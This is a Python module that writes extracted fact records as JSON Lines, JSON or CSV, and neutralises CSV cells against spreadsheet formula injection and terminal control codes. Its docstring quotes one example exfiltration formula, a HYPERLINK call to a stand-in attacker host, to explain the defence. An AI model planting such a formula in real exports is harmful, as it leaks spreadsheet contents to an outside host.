"""Serializing records for machines: JSON Lines, JSON and CSV (tables for people live in cli.py).

CSV is opened by spreadsheets, which run a cell that starts with = + - @ (or a tab or carriage
return before one) as a formula: `=HYPERLINK("http://evil.example/?"&A1)` in a document's text
would leak the sheet. So, as OWASP recommends, such text cells get a leading `'` (numbers are left
alone) and control characters are removed from every text cell; `raw=True` (`--csv-raw`) writes
the cells exactly as stored.
"""
from __future__ import annotations

import csv
import json
import re
from collections.abc import Iterable
from dataclasses import fields
from typing import Any, TextIO

from .records import Fact

FORMATS = ("table", "jsonl", "json", "csv")
_FIRST_COLUMNS = ("doc", "lang", "kind", "text", "start", "end", "value", "entity", "code", "subject",
                  "attribute", "contest", "qualifier", "counted", "stage", "sentence")
# every field of the fact contract, the ones a reader scans first first
FACT_COLUMNS = _FIRST_COLUMNS + tuple(f.name for f in fields(Fact) if f.name not in _FIRST_COLUMNS)
CONFLICT_COLUMNS = ("id", "subject", "attribute", "kind", "severity", "explanation", "values")
CONTEST_COLUMNS = ("id", "name", "country", "year", "kind", "round", "qualifier", "reports", "candidates", "options")


_ENCODER = json.JSONEncoder(ensure_ascii=False)     # json.dumps builds one per call for a non-default option


def dumps(record: dict[str, Any]) -> str:
    return _ENCODER.encode(record)


def write_jsonl(records: Iterable[dict[str, Any]], out: TextIO) -> int:
    return write_serialized(map(dumps, records), "jsonl", out)


def write_json(records: Iterable[dict[str, Any]], out: TextIO) -> int:
    """A JSON array, written as it streams (no list of the whole table in memory)."""
    return write_serialized(map(dumps, records), "json", out)


def write_serialized(texts: Iterable[str], fmt: str, out: TextIO) -> int:
    """write_jsonl or write_json of records already serialized (`dumps`), one text each."""
    n = 0
    if fmt == "jsonl":
        for n, text in enumerate(texts, 1):
            out.write(text + "\n")
        return n
    out.write("[")
    for n, text in enumerate(texts, 1):
        out.write(("\n  " if n == 1 else ",\n  ") + text)
    out.write("\n]\n" if n else "]\n")
    return n


# C0 controls but tab, line feed and carriage return (a CSV cell may hold lines), DEL, and C1:
# escape sequences and terminal commands (ESC [2J clears the screen, ESC ] sets its title)
_CONTROLS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def strip_controls(text: str) -> str:
    """`text` without the control characters a terminal or a spreadsheet would act on."""
    return _CONTROLS.sub("", text) if not text.isprintable() else text


def _cell(value: Any, raw: bool = False) -> str:
    if value is None:
        return ""
    if isinstance(value, (int, float)):
        return str(value)           # a number is never a formula, -3.5 included
    if isinstance(value, list) and all(isinstance(v, str) for v in value):
        text = "|".join(value)
    elif isinstance(value, (list, dict)):
        text = dumps(value)
    else:
        text = str(value)
    if raw:
        return text
    text = strip_controls(text)
    return "'" + text if text.startswith(_FORMULA_START) else text


def write_csv(records: Iterable[dict[str, Any]], out: TextIO, columns: Iterable[str], raw: bool = False) -> int:
    """CSV with a header row; text cells neutralised for spreadsheets unless `raw` (see above)."""
    columns = list(columns)
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(columns)
    n = 0
    for n, record in enumerate(records, 1):
        writer.writerow([_cell(record.get(c), raw) for c in columns])
    return n


def write(records: Iterable[dict[str, Any]], fmt: str, out: TextIO, columns: Iterable[str] = (),
          csv_raw: bool = False) -> int:
    """Write dict records in a machine format; returns how many were written."""
    if fmt == "jsonl":
        return write_jsonl(records, out)
    if fmt == "json":
        return write_json(records, out)
    if fmt == "csv":
        return write_csv(records, out, columns, raw=csv_raw)
    raise ValueError(f"unknown format {fmt!r} (expected one of {', '.join(FORMATS[1:])})")
